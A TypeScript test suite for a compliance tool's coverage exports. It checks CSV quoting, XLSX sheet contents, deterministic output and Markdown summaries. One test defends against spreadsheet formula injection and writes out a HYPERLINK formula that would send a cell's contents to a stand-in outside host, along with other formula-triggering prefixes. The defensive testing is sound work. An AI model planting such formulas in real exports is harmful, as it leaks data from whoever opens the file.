// Coverage exports read back: CSV parsed cell by cell, XLSX opened with exceljs, Markdown for PR comments.
import { toCoverageJson } from '../../src/model/coverage-json.ts';
import ExcelJS from 'exceljs';
import { expect, test, vi } from 'vitest';
import type { Corpus, Doc } from '../../src/model/corpus.ts';
import { computeCoverage } from '../../src/model/coverage.ts';
import { COVERAGE_COLUMNS, EVIDENCE_COLUMNS, RULE_COLUMNS, SOA_COLUMNS, coverageRows, neutraliseFormula, soaRows, toCoverageCsv, toCoverageMarkdown, toCoverageXlsx, toSoaCsv } from '../../src/model/exports/index.ts';
import { FIXTURE_AS_OF, loadFixture } from '../load-fixture.ts';

const base = await loadFixture('valid');
const report = computeCoverage(base, { asOf: FIXTURE_AS_OF });
const exclusions = base.applicability?.data.exclusions ?? [];

/** The valid fixture with document fields overridden. */
function variant(docs: Record<string, Record<string, unknown>>): Corpus {
  return { ...base, documents: base.documents.map((d) => (d.id && docs[d.id] ? ({ ...d, data: { ...d.data!, ...docs[d.id] } } as Doc) : d)) };
}

/** RFC 4180 parser: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      for (i++; !(text[i] === '"' && text[i + 1] !== '"'); i++) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        field += text[i];
        if (text[i] === '"') i++;
      }
      i++;
    } else if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      records.push([...record, field]);
      record = [];
      field = '';
      i += 2;
    } else {
      if (text[i] === '\r' || text[i] === '\n') throw new Error(`bare line break at ${i}`);
      field += text[i++];
    }
  }
  if (field || record.length) throw new Error('last record has no CRLF');
  return records;
}

const byHeader = (records: string[][]) => records.slice(1).map((r) => Object.fromEntries(records[0]!.map((h, i) => [h, r[i]])));
const loadXlsx = async (bytes: Uint8Array) => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook;
};
const sheetValues = (sheet: ExcelJS.Worksheet) =>
  sheet.getSheetValues().slice(1).map((row) => Array.from({ length: sheet.columnCount }, (_, i) => (row as ExcelJS.CellValue[])[i + 1] ?? ''));

test('should parse quotes, commas and line breaks with the CSV parser of this test', () => {
  expect(parseCsv('a,"b,""c""",\r\n"x\r\ny",z,\r\n')).toEqual([['a', 'b,"c"', ''], ['x\r\ny', 'z', '']]);
});

test('should start the CSV with a BOM and end every record with CRLF', () => {
  const csv = toCoverageCsv(report);
  expect(csv.startsWith('\uFEFFclause,title_zh,')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
});

test('should write one CSV row per clause with a state, matching the report cell by cell', () => {
  const records = parseCsv(toCoverageCsv(report).slice(1));
  expect(records[0]).toEqual([...COVERAGE_COLUMNS]);
  const rows = byHeader(records);
  const stated = report.clauses.filter((c) => c.state);
  expect(rows.map((r) => r.clause)).toEqual(stated.map((c) => c.id));
  expect(rows.map((r) => r.clause)).toEqual(['4', '4.1', '8', '8.5', '8.6']);
  for (const [i, c] of stated.entries()) {
    const row = rows[i]!;
    expect(row).toEqual({
      clause: c.id,
      title_zh: c.title,
      title_en: c.titleEn,
      kind: c.kind,
      stage: c.stage === null ? '' : String(c.stage),
      state: c.state,
      documents: c.documents.filter((d) => d.counts).map((d) => d.id).join(' '),
      fresh_evidence: c.evidence.filter((e) => e.fresh).map((e) => e.id).join(' '),
      evidence: c.evidence.map((e) => e.id).join(' '),
      cases: c.cases.join(' '),
      reason: c.reason,
      exclusion_justification: c.exclusion?.justification ?? '',
      withheld: c.withheld ? 'yes' : '',
      profile: 'all',
    });
  }
  expect(rows.find((r) => r.clause === '8.5')).toMatchObject({ state: 'covered', documents: 'POL-001 SOP-001', fresh_evidence: 'EV-2026-001', cases: 'CASE-2026-001', stage: '4' });
  expect(rows.find((r) => r.clause === '8.6')).toMatchObject({ state: 'excluded', exclusion_justification: '测试组织尚无联合运作的合作关系。' });
});

test('should quote CSV cells that hold commas, quotes or line breaks', () => {
  const tricky = { ...report, clauses: report.clauses.map((c) => (c.id === '4.1' ? { ...c, titleEn: 'Context, "scope"\nand more' } : c)) };
  const rows = byHeader(parseCsv(toCoverageCsv(tricky).slice(1)));
  expect(rows.find((r) => r.clause === '4.1')!.title_en).toBe('Context, "scope"\nand more');
  expect(toCoverageCsv(tricky)).toContain('"Context, ""scope""\nand more"');
});

test('should open as text, never as a formula, in a spreadsheet: cells starting with = + - @ tab or CR get a quote', () => {
  const formulas = ['=HYPERLINK("https://example.invalid/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
  const hostile = {
    ...report,
    clauses: report.clauses.map((c, i) => ({ ...c, titleZh: formulas[i % formulas.length]!, ...(c.exclusion ? { exclusion: { ...c.exclusion, justification: formulas[0]! } } : {}) })),
  };
  for (const csv of [toCoverageCsv(hostile), toSoaCsv(hostile)]) {
    const cells = parseCsv(csv.slice(1)).flat();
    // What a spreadsheet runs as a formula: a cell beginning with one of these.
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${formulas[0]}`);
  }
  // Ordinary text is untouched.
  expect(neutraliseFormula('理解组织及其环境')).toBe('理解组织及其环境');
  expect(neutraliseFormula('-')).toBe("'-");
});

test('should list every requirement clause in the statement of applicability CSV', () => {
  const csv = toSoaCsv(report);
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(parseCsv(csv.slice(1))).toEqual([
    [...SOA_COLUMNS],
    ['4.1', '理解组织及其环境', '是', '', '', '', 'all'],
    ['8.5', '合作伙伴筛选', '是', '', '', '', 'all'],
    ['8.6', '携手合作', '否', '测试组织尚无联合运作的合作关系。', 'ceo', '2026-01-10', 'all'],
  ]);
});

test('should write an XLSX whose clauses sheet matches coverageRows cell by cell', async () => {
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, exclusions));
  expect(workbook.worksheets.map((s) => s.name)).toEqual(['summary', 'clauses', 'evidence', 'applicability', 'rules', 'relationships', 'findings', 'risks', 'objectives', 'competence']);
  const clauses = workbook.getWorksheet('clauses')!;
  expect(sheetValues(clauses)).toEqual([[...COVERAGE_COLUMNS], ...coverageRows(report)]);
  expect(clauses.getCell('F5').value).toBe('covered');
  expect(clauses.getCell('E5').value).toBe(4);
  expect(sheetValues(workbook.getWorksheet('applicability')!)).toEqual([[...SOA_COLUMNS], ...soaRows(report)]);
});

test('should export the rules with their values, bounds, grades and defining documents', async () => {
  const rules = base.rules!.data.rules;
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, exclusions, rules));
  expect(sheetValues(workbook.getWorksheet('rules')!)).toEqual([
    [...RULE_COLUMNS],
    ['partner.contract.ceo_approval', '须经总经理审批的合作合同金额', 'amount', '>=', 200, '万元', '', 'POL-001', 'gbt40144:8.5'],
    ['partner.selection.result', '合作伙伴筛选结论', 'vocabulary', '', '', '', '推荐: 进入谈判。\n备选: 首选伙伴谈判不成时启用。\n淘汰: 本轮不再考虑。', 'TPL-001', ''],
  ]);
  const json = JSON.parse(toCoverageJson(report, rules)) as { rules: { id: string }[] };
  expect(json.rules.map((r) => r.id)).toEqual(['partner.contract.ceo_approval', 'partner.selection.result']);
});

test('should export the relationship register: stage, approved gates, missing joint parts, the latest score and the next review', async () => {
  const { loadFixture } = await import('../load-fixture.ts');
  const { buildGraph } = await import('../../src/model/graph.ts');
  const { relationshipRows, RELATIONSHIP_COLUMNS } = await import('../../src/model/exports/index.ts');
  const corpus = await loadFixture('CB805');
  const rows = relationshipRows(corpus, buildGraph(corpus), '2026-08-01');
  expect(rows).toEqual([['REL-001', '视觉模组联合开发合作', '甲公司', 'technology-supplier', 'A', 6, 'zhou', 'lin', '2026-03-01', '2028-02-29', '200-500 万元', '1:2026-01-16 2:2026-01-20 3:2026-01-25 4:2026-02-06 5:2026-03-01', 'exit', 3.6, '2026-02-05', '2026-07-15', '是', '', 'internal']]);
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, exclusions, [], { relationships: rows }));
  expect(sheetValues(workbook.getWorksheet('relationships')!)).toEqual([[...RELATIONSHIP_COLUMNS], ...rows]);
});

test('should freeze, embolden and filter the header row of every table sheet', async () => {
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, exclusions));
  for (const [name, columns] of [['clauses', COVERAGE_COLUMNS], ['evidence', EVIDENCE_COLUMNS], ['applicability', SOA_COLUMNS]] as const) {
    const sheet = workbook.getWorksheet(name)!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(sheet.autoFilter).toBe(`A1:${String.fromCharCode(64 + columns.length)}1`);
    for (let i = 1; i <= columns.length; i++) expect(sheet.getColumn(i).width).toBeGreaterThanOrEqual(8);
  }
});

test('should put the standard, dates and totals on the summary sheet', async () => {
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, exclusions));
  const summary = Object.fromEntries(sheetValues(workbook.getWorksheet('summary')!));
  expect(summary).toEqual({
    standard: 'gbt40144',
    profile: 'all',
    as_of: FIXTURE_AS_OF,
    freshness_months: 12,
    fresh_since: '2025-06-01',
    covered: 2,
    addressed: 0,
    gap: 0,
    excluded: 1,
    requirements: 3,
    withheld: 0,
    covered_share: 1,
  });
  expect(workbook.created.toISOString()).toBe('2026-06-01T00:00:00.000Z');
});

test('should list every evidence record with its freshness on the evidence sheet', async () => {
  // EV-2026-002 (2026-01-20) is now stale; EV-2026-001 (2026-02-10) counts until 2027-02-10, within the 60 days: due.
  const stale = computeCoverage(base, { asOf: '2027-02-01' });
  const workbook = await loadXlsx(await toCoverageXlsx(stale, base.evidence, exclusions));
  const sheet = workbook.getWorksheet('evidence')!;
  expect(sheet.rowCount).toBe(base.evidence.length + 1);
  expect(sheetValues(sheet)).toEqual([
    [...EVIDENCE_COLUMNS],
    ['EV-2026-001', '物流伙伴评分汇总', 'assessment', '2026-02-10', 'due', 'gbt40144:8.5', 'TPL-001', 'scm', 'public', 'content/evidence/files/scores.md'],
    ['EV-2026-002', '组织环境分析报告', 'report', '2026-01-20', 'stale', 'gbt40144:4.1', 'POL-001', 'cmo', 'public', 'https://dms.example.com/records/EV-2026-002'],
  ]);
});

test('should write the same XLSX bytes for the same report, dated at the as-of date', async () => {
  // The zip writer stamps entries with the clock; move it a day between the two writes.
  vi.useFakeTimers({ toFake: ['Date'] });
  try {
    vi.setSystemTime(new Date('2030-01-01T10:00:00Z'));
    const first = await toCoverageXlsx(report, base.evidence, exclusions);
    vi.setSystemTime(new Date('2030-01-02T11:11:11Z'));
    expect(await toCoverageXlsx(report, base.evidence, exclusions)).toEqual(first);
  } finally {
    vi.useRealTimers();
  }
  const first = await toCoverageXlsx(report, base.evidence, exclusions);
  const view = new DataView(first.buffer, first.byteOffset);
  expect(view.getUint32(0, true)).toBe(0x04034b50); // first local file header
  expect(view.getUint16(12, true)).toBe(((2026 - 1980) << 9) | (6 << 5) | 1);
});

test('should list an exclusion that names no requirement clause on the applicability sheet', async () => {
  const stray = [...exclusions, { clause: 'gbt40144:8', justification: '整章不适用于测试组织。', approved_by: 'ceo', date: '2026-01-11' }];
  const workbook = await loadXlsx(await toCoverageXlsx(report, base.evidence, stray));
  expect(sheetValues(workbook.getWorksheet('applicability')!).at(-1)).toEqual(['gbt40144:8', '', '否', '整章不适用于测试组织。', 'ceo', '2026-01-11', 'all']);
});

test('should list gap clauses with their reason and omit covered ones in the Markdown summary', () => {
  // 8.5 loses its SOP and POL-001 keeps only 4.1: 8.5 becomes a gap, 4.1 stays covered.
  const gap = computeCoverage(variant({ 'SOP-001': { status: 'draft' }, 'POL-001': { clauses: ['gbt40144:4.1'] } }), { asOf: FIXTURE_AS_OF });
  const md = toCoverageMarkdown(gap);
  expect(md).toContain('## Clause coverage of gbt40144');
  expect(md).toContain(`As of ${FIXTURE_AS_OF}`);
  expect(md).toContain('| gap | 1 |');
  expect(md).toContain('### Gaps (1)');
  expect(md).toContain('- **8.5** Partner selection (合作伙伴筛选): No approved, in-force policy or SOP implements it (SOP-001 is draft).');
  expect(md).not.toContain('**4.1**');
  expect(md).not.toContain('### Addressed');
  expect(md).not.toContain('**8.6**');
});

test('should list addressed clauses, and say so when there is no gap', () => {
  expect(toCoverageMarkdown(report)).toContain('No gaps: every applicable requirement clause is covered.');
  expect(toCoverageMarkdown(report)).toContain('2 of 2 applicable requirement clauses covered (100%).');
  const md = toCoverageMarkdown(computeCoverage(base, { asOf: '2027-02-01' }));
  expect(md).toContain('### Addressed, awaiting fresh evidence (1)');
  expect(md).toMatch(/^- \*\*4\.1\*\* Understanding the organization \(理解组织及其环境\): Implemented by POL-001, but no evidence/m);
  expect(md).not.toContain('**8.5**');
});
